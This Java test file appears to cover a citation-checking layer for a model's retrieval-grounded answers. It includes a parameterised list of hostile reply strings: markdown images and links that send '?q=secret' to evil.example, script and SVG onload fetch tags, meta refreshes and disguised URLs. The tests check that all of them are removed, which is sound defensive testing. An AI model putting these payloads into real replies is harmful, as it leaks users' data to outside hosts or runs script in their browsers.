package dev.tarn.answer;

import static dev.tarn.answer.Fakes.QUESTION;
import static dev.tarn.answer.Fakes.passage;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static org.assertj.core.api.Assertions.within;
import static org.assertj.core.api.InstanceOfAssertFactories.list;

import dev.tarn.answer.Fakes.Angles;
import dev.tarn.answer.Fakes.Chat;
import dev.tarn.failure.PermanentFailure;
import dev.tarn.model.Generation;
import dev.tarn.question.Answer;
import dev.tarn.question.Answer.Statement;
import dev.tarn.question.Answer.Status;
import dev.tarn.question.Passage;
import dev.tarn.question.Prompt;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GroundedAnswersTest {
    private static final Passage STREAMS = passage(1, "Streams **feed** a tarn. It is cold.");
    private static final Passage SNOW = passage(2, "Snow melts in spring. The water runs down.");

    private final Angles embedder = new Angles();

    @Test
    void whatThePassagesSayWordByWordIsSupportedWithoutACallOfTheModel() {
        GroundedAnswer answer = answer(new Chat("Streams feed a tarn. [1] Snow melts in spring [2]."), STREAMS, SNOW);

        assertThat(answer.status()).isEqualTo(Status.ANSWERED);
        assertThat(answer.text()).isEqualTo("Streams feed a tarn. [1] Snow melts in spring [2].");
        assertThat(answer.statements())
                .containsExactly(
                        new Statement("Streams feed a tarn.", List.of(1), 1.0, true),
                        new Statement("Snow melts in spring.", List.of(2), 1.0, true));
        assertThat(answer.given()).containsExactly(STREAMS, SNOW);
        assertThat(answer.tokens()).isEqualTo(new Answer.Tokens(7, null));
        assertThat(embedder.calls).isEmpty();
    }

    @Test
    void theTimeOfAllCallsOfTheModelIsTold() {
        List<Long> nanos = new ArrayList<>();
        Chat chat = new Chat("No citation.", "Streams feed a tarn [1].") {
            @Override
            public Generation generate(Prompt prompt) {
                long began = System.nanoTime();
                Generation generation = super.generate(prompt);
                nanos.add(System.nanoTime() - began);
                return generation;
            }
        };

        GroundedAnswer answer = answer(chat, STREAMS);

        assertThat(nanos).hasSize(2);
        assertThat(answer.generateNanos()).isGreaterThanOrEqualTo(nanos.get(0) + nanos.get(1));
        assertThat(answer(new Chat(new Generation[0])).generateNanos()).isZero();
    }

    @Test
    void aClauseIsNotWhatItsSentenceSays() {
        Passage myth =
                passage(1, "It is a myth that\ntarns are warm. Never swim there, my dear. Ducks do, and boats drift.");

        for (String clause : List.of("Tarns are warm [1].", "There ducks do, and boats drift [1].", "Never [1].")) {
            assertThat(answer(new Chat(clause), myth).statements())
                    .singleElement()
                    .extracting(Statement::support)
                    .isNotEqualTo(1.0);
        }
    }

    @Test
    void sentencesInARowListItemsAndWrappedLinesAreWordByWord() {
        Passage passage = passage(1, "# Tarns\nThey are\ncold. They are deep.\n\n1. Bring a coat\n- and *boots*");

        assertThat(answer(
                                new Chat(
                                        "They are cold. They are deep: bring a coat [1].\n\n* And boots [1]\n* They are deep"
                                                + " [1]; bring a coat, and boots."),
                                passage)
                        .statements())
                .extracting(Statement::support)
                .containsOnly(1.0);
        assertThat(embedder.calls).isEmpty();
    }

    @Test
    void allElseIsComparedWithTheSentencesOfWhatItCitesInOneCall() {
        GroundedAnswer answer = answer(
                new Chat("A tarn lives on " + "small ".repeat(60)
                        + "streams [1]. Water comes from the snow of winter [2]."),
                STREAMS,
                SNOW);

        assertThat(embedder.calls)
                .singleElement()
                .asInstanceOf(list(String.class))
                .contains("It is cold.", "Streams **feed** a tarn. It is cold.", SNOW.text())
                .doesNotHaveDuplicates();
        assertThat(answer.statements()).extracting(Statement::supported).containsExactly(false, true);
        assertThat(answer.statements().get(0).support()).isCloseTo(Math.cos(Math.toRadians(58)), within(1e-6));
        assertThat(answer.statements().get(1).support()).isCloseTo(Math.cos(Math.toRadians(1)), within(1e-6));
    }

    @Test
    void aCitationStandsForTheSentencesBeforeItThatHaveNone() {
        assertThat(answer(new Chat("It is cold. Streams feed a tarn [1]. Nobody knows more."), STREAMS)
                        .statements())
                .containsExactly(
                        new Statement("It is cold.", List.of(1), 1.0, true),
                        new Statement("Streams feed a tarn.", List.of(1), 1.0, true),
                        new Statement("Nobody knows more.", List.of(), null, false));
    }

    @Test
    void aCitationOnALineOfItsOwnBelongsToTheSentenceBefore() {
        for (String citations : List.of("[1]", "- ([1])", "Sources: [1]")) {
            assertThat(answer(
                                    new Chat("Streams feed a tarn.\n" + citations + "\nSnow melts in spring. [2]"),
                                    STREAMS,
                                    SNOW)
                            .statements())
                    .containsExactly(
                            new Statement("Streams feed a tarn.", List.of(1), 1.0, true),
                            new Statement("Snow melts in spring.", List.of(2), 1.0, true));
        }
        assertThat(answer(new Chat("[2]\nIt is cold [1].\nSources: [1], [2]"), STREAMS, SNOW)
                        .statements())
                .containsExactly(new Statement("It is cold.", List.of(1), 1.0, true));
    }

    @Test
    void codeCitesNothing() {
        Passage passage = passage(1, "Use `heap[2]` for the left child.");
        String reply = "Use `heap[2]` for the left child. [1]";

        GroundedAnswer answer = answer(new Chat(reply), passage);
        assertThat(answer.text()).isEqualTo(reply);
        assertThat(answer.statements())
                .containsExactly(new Statement("Use `heap[2]` for the left child.", List.of(1), 1.0, true));

        assertThat(answer(new Chat("Use `heap[1]`.", reply), passage).attempts())
                .isEqualTo(2);
        assertThat(answer(new Chat("So:\n\n```java\nint top = heap[0];\n// or [7]\n```\n[1]"), passage)
                        .statements())
                .extracting(Statement::text, Statement::citations)
                .containsExactly(tuple("So:", List.of(1)), tuple("int top = heap[0];\n// or [7]", List.of(1)));
        assertThat(answer(new Chat("Take `a. Then b[9]` first. [1]"), passage).statements())
                .extracting(Statement::citations)
                .containsOnly(List.of(1));
        assertThat(answer(new Chat("Streams feed it `[1]`."), passage).attempts())
                .isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Streams feed it.",
                "Streams feed it [3].",
                "Streams feed it [1][0].",
                "See [1, 9].",
                "Streams feed it [1]. See [1-3].",
                "Streams feed it [1]. See [2 and 9].",
                "Streams feed it [1]. See [passage 9].",
                "Streams feed it [1]. See \u30109\u3011.",
                "Streams feed it [1]. See [\uFF19].",
                "Streams feed it [1]. See [\uD835\uDFD7].",
                "Streams feed it [1]. See [#9].",
                "Streams feed it [1].\n~~~\na[7]\n~~~ [9]"
            })
    void anAnswerThatCitesNothingOrWhatWasNotGivenIsAskedForOnceMoreAndToldWhy(String wrong) {
        Chat chat = new Chat(wrong, "Streams feed a tarn [1].");

        GroundedAnswer answer = answer(chat, STREAMS, SNOW);

        assertThat(answer.status()).isEqualTo(Status.ANSWERED);
        assertThat(answer.text()).isEqualTo("Streams feed a tarn [1].");
        assertThat(answer.attempts()).isEqualTo(2);
        assertThat(answer.tokens()).isEqualTo(new Answer.Tokens(14, null));
        assertThat(chat.prompts.get(1).user()).isEqualTo(chat.prompts.get(0).user());
        assertThat(chat.prompts.get(1).system())
                .startsWith(chat.prompts.get(0).system())
                .containsPattern(
                        "refused, because it cites (no passage|\\[[0-9]\\], but the passages are \\[1\\], \\[2\\])");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"[1-2]", "[1 \u2013 2]", "[1 and 2]", "[1 & 2]", "[passages 1, 2]", "\u30101\u3011[\uFF12]"})
    void citationsInOtherSpellingsCount(String citations) {
        GroundedAnswer answer = answer(new Chat("Streams feed it " + citations + "."), STREAMS, SNOW);

        assertThat(answer.attempts()).isEqualTo(1);
        assertThat(answer.statements())
                .extracting(Statement::text, Statement::citations)
                .containsExactly(tuple("Streams feed it.", List.of(1, 2)));
    }

    @Test
    void aYearInBracketsIsText() {
        GroundedAnswer answer = answer(new Chat("It was shown by Codd [1970]. [1]"), STREAMS);

        assertThat(answer.attempts()).isEqualTo(1);
        assertThat(answer.statements())
                .extracting(Statement::text, Statement::citations)
                .containsExactly(tuple("It was shown by Codd [1970].", List.of(1)));
    }

    @Test
    void aCitationIsReadTheSameWhereverItStands() {
        assertThat(answer(new Chat("So:\n```\nint a;\n``` [1]"), STREAMS).statements())
                .extracting(Statement::text, Statement::citations)
                .containsExactly(tuple("So:", List.of(1)), tuple("int a;", List.of(1)));
        assertThat(answer(new Chat("So:\n~~~\nint a[9];\n~~~\n[1]"), STREAMS).statements())
                .extracting(Statement::text, Statement::citations)
                .containsExactly(tuple("So:", List.of(1)), tuple("int a[9];", List.of(1)));
        assertThat(answer(new Chat("Streams feed it [1,\n2]."), STREAMS, SNOW).statements())
                .extracting(Statement::text, Statement::citations)
                .containsExactly(tuple("Streams feed it.", List.of(1, 2)));
    }

    @Test
    void aCitationThatBelongsToNoSentenceIsNone() {
        Chat chat = new Chat("[1]\nStreams feed it.", "[1]");

        assertThat(answer(chat, STREAMS).error()).endsWith("it cites no passage");
        assertThat(chat.prompts).hasSize(2);
    }

    @Test
    void whatAModelThinksIsNoPartOfItsAnswer() {
        GroundedAnswer answer = answer(
                new Chat("\n<think>\nSnow [2]? The documents do not answer this question.\n</think>\n\nStreams feed a"
                        + " tarn. [1]"),
                STREAMS,
                SNOW);

        assertThat(answer.text()).isEqualTo("Streams feed a tarn. [1]");
        assertThat(answer.statements()).extracting(Statement::text).containsExactly("Streams feed a tarn.");
        for (String thought :
                List.of("<think>Streams [1].", "<THINK>a</think><thinking>Streams. [1]</thinking>It is.")) {
            assertThat(answer(new Chat(thought, thought), STREAMS).error()).endsWith("it cites no passage");
        }
        assertThat(answer(new Chat("In `<think>` it thinks. [1]"), STREAMS).text())
                .isEqualTo("In `<think>` it thinks. [1]");
    }

    @Test
    void digitsInBracketsThatBeginWithZeroAreNoRangeOfPassages() {
        assertThat(answer(new Chat("One of [0-9] feeds it [1]."), STREAMS).attempts())
                .isEqualTo(1);
    }

    @Test
    void anAnswerThatIsWrongAgainFailsWithTheReason() {
        GroundedAnswer answer = answer(new Chat("Streams feed it.", "Streams feed it [5]."), STREAMS);

        assertThat(answer.status()).isEqualTo(Status.FAILED);
        assertThat(answer.text()).isNull();
        assertThat(answer.statements()).isEmpty();
        assertThat(answer.error())
                .endsWith("it cites [5], but the passages are [1]")
                .doesNotContain("Streams");
    }

    @Test
    void aModelThatFindsNoAnswerIsNotAskedAgain() {
        GroundedAnswer answer = answer(new Chat("\"The documents do not answer this question\""), STREAMS);

        assertThat(answer.status()).isEqualTo(Status.NO_ANSWER);
        assertThat(answer.attempts()).isEqualTo(1);
        assertThat(answer.given()).containsExactly(STREAMS);
    }

    @Test
    void withoutEnoughEvidenceNoModelIsAsked() {
        Chat chat = new Chat(new String[0]);

        assertThat(answer(chat).status()).isEqualTo(Status.NO_ANSWER);
        GroundedAnswer weak = new GroundedAnswers(chat, embedder, new AnswerSettings(4096, 1.2, 0.6))
                .answer(QUESTION, List.of(STREAMS));

        assertThat(weak.status()).isEqualTo(Status.NO_ANSWER);
        assertThat(weak.evidence()).isBetween(0.8, 1.2);
        assertThat(weak.attempts()).isZero();
        assertThat(chat.prompts).isEmpty();
    }

    @Test
    void evidenceIsTheNearestPassageAndTheWordsOfTheQuestionThatThePassagesHold() {
        assertThat(Evidence.of("Which streams feed tarns?", List.of(STREAMS))).isCloseTo(0.8 + 0.3 * 0.5, within(1e-9));
        assertThat(Evidence.of("Streams, snow", List.of(STREAMS, SNOW))).isCloseTo(1.1, within(1e-9));
        assertThat(Evidence.of("?", List.of(STREAMS))).isEqualTo(0.8);
    }

    @Test
    void passagesForWhichThereIsNoRoomAreLeftOutWholeTheWeakestFirst() {
        List<Passage> passages = new ArrayList<>();
        for (int i = 1; i <= 20; i++) {
            passages.add(passage(i, (i + " streams feed tarn number " + i + " from the left. ").repeat(20)));
        }
        Chat chat = new Chat("Nineteen streams [1].");

        GroundedAnswer answer =
                new GroundedAnswers(chat, embedder, new AnswerSettings(4096, 0, 0.6)).answer(QUESTION, passages);

        assertThat(answer.given())
                .hasSizeBetween(5, 19)
                .isEqualTo(passages.subList(0, answer.given().size()));
        assertThat(chat.prompts).containsExactly(Prompt.of(QUESTION, answer.given()));

        GroundedAnswer failed =
                new GroundedAnswers(chat, embedder, new AnswerSettings(300, 0, 0.6)).answer(QUESTION, passages);
        assertThat(failed.status()).isEqualTo(Status.FAILED);
        assertThat(failed.error()).contains("too long", "--chat-context");
        assertThat(failed.attempts()).isZero();
    }

    @Test
    void aReplyLosesHiddenCharactersPicturesLinksAndAddressesThatNoPassageHas() {
        Passage passage = passage(1, "See https://tarn.example/a for streams.");
        Chat chat = new Chat(
                "See\u202e ![x](https://evil.example/?q=secret) [the site](https://evil.example) or"
                        + " https://evil.example/?q=secret, www.evil.example and https://tarn.example/a. [1](https://evil.example)");

        assertThat(answer(chat, passage).text())
                .isEqualTo("See x the site or (address removed), (address removed) and https://tarn.example/a. [1]");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a[b]c](//evil.example/?q)",
                "![x](//evil.example/a(b)c?q)",
                "![x]( <https&#58;//evil.example/?q> \"title\")",
                "[a](\nhttps:/evil.example/?q)",
                "![x][y]\n\n[y]: //evil.example/?q",
                "> - [y]: //evil.example/?q",
                "\n[1]: //evil.example/?q",
                "[a\nb]: //evil.example/?q",
                "<meta http-equiv='refresh' content='0;url=//evil.example'>",
                "<iframe srcdoc='<p>'>",
                "<script>fetch('//evil.example')</script>",
                "<style>@import '//evil.example'</style>",
                "<img src=//evil.example/?q>",
                "<img\nalt='>' src='https://evil.example/?q'>",
                "<svg/onload=fetch('//evil.example')>",
                "<a href=\"https:evil.example\">x</a>",
                "<https://evil.example/?q>",
                "https:/evil.example/?q",
                "_http://evil.example/?q_",
                "_www.evil.example/q_",
                "1https://evil.example/q",
                "éhttps:evil.example/q",
                "//evil.example/?q",
                "evil.example/?q",
                "evil.example:8080?q",
                "secret@evil.example",
                "<sms:+1?body=//evil.example>",
                "<magnet:?xt=secret@evil.example>",
                "<irc:www.evil.example>",
                "<vbscript:evil.example:80>",
                "<img < src=//evil.example/x>",
                "<img @='>' src=x.png>",
                "<x/onfocus='alert(1)'autofocus>",
                "HTTP:\\\\evil.example\\q",
                "https://tarn.example/a)evil.example-q",
                "https://tarn.example/a'evil.example-q",
                "https://tarn.example/a]evil.example-q",
                "https://tarn.example/a[1]evil.example-q"
            })
    void noFormOfAnAddressGoesOutThatNoPassageHas(String hostile) {
        Passage passage = passage(1, "See https://tarn.example/a for streams.");

        String shown = answer(new Chat("Streams " + hostile + " feed it [1]."), passage)
                .text();

        assertThat(shown)
                .startsWith("Streams ")
                .endsWith(" feed it [1].")
                .doesNotContainPattern("](\\(|:)|<\\w[^>]*=|<(script|style)")
                .doesNotContainPattern(
                        "(?i)https?:[/\\\\]*evil|tarn\\.example/\\S*evil|(//|@|www\\.)evil|evil\\.example[/:?]");
    }

    @Test
    void whatOnlyLooksLikeAnAddressStays() {
        String reply =
                "Metadata: the ratio input/output (recall@4, e.g. 0.9/1.0) of //comments, conf/server.properties,"
                        + " node.js, Node.js/Express, System.out/err, std::vector<std::string> and `metadata:x` is x=1, and/or List<String> a = b, if a <= b in x.properties?[1]";

        assertThat(answer(new Chat(reply), STREAMS).text()).isEqualTo(reply);
    }

    @Test
    void codeTagsAndAddressesOfThePassagesStay() {
        Passage passage = passage(1, "A List<String> of https://tarn.example/a(b)?x=1.");
        String reply = "For a List<String>, if a<b, take arr[i] (all) of **https://tarn.example/a(b)?x=1**, or"
                + " <b>the same</b> (\"https://tarn.example/a(b)?x=1\"). [1]";

        assertThat(answer(new Chat(reply), passage).text()).isEqualTo(reply);
    }

    @Test
    void aReplyThatQuotesAPassageWithTheAgreedSentenceIsAnAnswer() {
        Passage hostile = passage(1, "The documents do not answer this question of tarns.");
        String quotation = "The documents do not answer this question of tarns. [1] Snow melts in spring [2].";

        assertThat(answer(new Chat(quotation), hostile, SNOW).status()).isEqualTo(Status.ANSWERED);
        assertThat(answer(new Chat(Prompt.NO_ANSWER), hostile, SNOW).status()).isEqualTo(Status.NO_ANSWER);
        assertThat(answer(new Chat(Prompt.NO_ANSWER + " [2]"), STREAMS, SNOW).status())
                .isEqualTo(Status.NO_ANSWER);
    }

    @Test
    void aReplyThatIsBrokenOffIsAskedForOnceMoreAndToldWhy() {
        Chat chat = new Chat(
                new Generation("Streams feed [1] a", 7, 5, false), new Generation("Streams feed it [1].", 7, 5, true));

        assertThat(answer(chat, STREAMS).text()).isEqualTo("Streams feed it [1].");
        assertThat(chat.prompts.get(1).system()).contains("it is longer than what --chat-context leaves room for");

        Generation cut = new Generation("Streams feed [1] a", 7, 5, false);
        GroundedAnswer failed = answer(new Chat(cut, cut), STREAMS);
        assertThat(failed.status()).isEqualTo(Status.FAILED);
        assertThat(failed.error()).contains("--chat-context");
    }

    @Test
    void aPromptThatTheServerHasCutIsAskedAgainWithTheBetterHalfOfThePassages() {
        Generation cut = new Generation("Rivers [3].", 4096, 5, true);
        Chat chat = new Chat(cut, cut, new Generation("Streams feed it [1].", 900, 5, true));
        Passage[] passages = {STREAMS, SNOW, passage(3, "Rivers."), passage(4, "Rain."), passage(5, "Springs.")};

        GroundedAnswer answer = answer(chat, passages);

        assertThat(answer.text()).isEqualTo("Streams feed it [1].");
        assertThat(answer.given()).containsExactly(STREAMS);
        assertThat(chat.prompts)
                .extracting(prompt -> prompt.user().split("<passage ", -1).length - 1)
                .containsExactly(5, 2, 1);
        assertThatThrownBy(() -> answer(new Chat(cut), STREAMS))
                .isInstanceOf(PermanentFailure.class)
                .hasMessageContaining("--chat-context");
    }

    @Test
    void aPromptWhoseBeginningTheServerDropsWhileItWritesCountsAsCut() {
        Chat chat = new Chat(
                new Generation("Rivers [2].", 4000, 97, true), new Generation("Streams feed it [1].", 900, 3196, true));

        GroundedAnswer answer = answer(chat, STREAMS, SNOW);

        assertThat(answer.text()).isEqualTo("Streams feed it [1].");
        assertThat(answer.given()).containsExactly(STREAMS);
    }

    @Test
    void aReplyThatStopsWhereTheContextIsFullIsAskedAgainWithTheBetterHalfAndOfOnePassageOnceMore() {
        Generation full = new Generation("Rivers [2] a", 4000, 96, false);

        GroundedAnswer answer =
                answer(new Chat(full, new Generation("Streams feed it [1].", 900, 5, true)), STREAMS, SNOW);
        assertThat(answer.text()).isEqualTo("Streams feed it [1].");
        assertThat(answer.given()).containsExactly(STREAMS);

        Chat again = new Chat(full, new Generation("Streams feed it [1].", 4000, 96, true));
        assertThat(answer(again, STREAMS).status()).isEqualTo(Status.ANSWERED);
        assertThat(again.prompts.get(1).system()).contains("it is longer than");
        assertThat(answer(new Chat(full, full), STREAMS).status()).isEqualTo(Status.FAILED);
    }

    @Test
    void aPromptThatIsCutWhenItIsAskedAgainIsAskedWithTheBetterHalfToo() {
        Chat chat = new Chat(
                new Generation("Rivers [7].", 4090, 5, true),
                new Generation("Rivers [2].", 4096, 5, true),
                new Generation("Streams feed it [1].", 900, 5, true));

        GroundedAnswer answer = answer(chat, STREAMS, SNOW);

        assertThat(answer.text()).isEqualTo("Streams feed it [1].");
        assertThat(answer.given()).containsExactly(STREAMS);
        assertThat(chat.prompts.get(2)).isEqualTo(Prompt.of(QUESTION, List.of(STREAMS)));
    }

    /** What a model writes that has come into a loop. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                ")",
                "]",
                "[1]",
                "[1] ",
                ".[1]",
                "[1, ",
                "`",
                "`a",
                "```\n",
                "<a ",
                "<a =",
                "https://",
                "www.a",
                "a.b",
                "a@",
                "//a.",
                "-",
                "a",
                "a/",
                "The documents ",
                "\n- ",
                "\n[1]",
                ". ",
                "[a](",
                "\n",
                " ",
                ".a",
                "<a>",
                "~~~\n",
                "~",
                "````",
                "`a` ",
                "[^1",
                "[Passage 1: ",
                "<think>",
                "<think></think>",
                "I cannot answer this question. ",
                "The passages do not say ",
                "? ",
                "-1 ",
                "1.",
                "of the ",
                "> "
            })
    void aReplyThatRepeatsItselfIsReadToItsEnd(String unit) {
        String repeated = unit.repeat(20_000 / unit.length());

        assertThat(answer(
                                new Chat(
                                        "https://a.example" + repeated + "\n//a.b" + repeated + "\n" + repeated
                                                + "\n[1].",
                                        "Streams [1]."),
                                STREAMS)
                        .status())
                .isEqualTo(Status.ANSWERED);
    }

    @Test
    void aStatementOfFiguresAloneIsAStatement() {
        assertThat(answer(new Chat("1979. [1] Streams feed a tarn. [1]"), STREAMS)
                        .statements())
                .extracting(Statement::text)
                .containsExactly("1979.", "Streams feed a tarn.");
    }

    private GroundedAnswer answer(Chat chat, Passage... passages) {
        return new GroundedAnswers(chat, embedder, new AnswerSettings(4096, -1, 0.6))
                .answer(QUESTION, List.of(passages));
    }
}
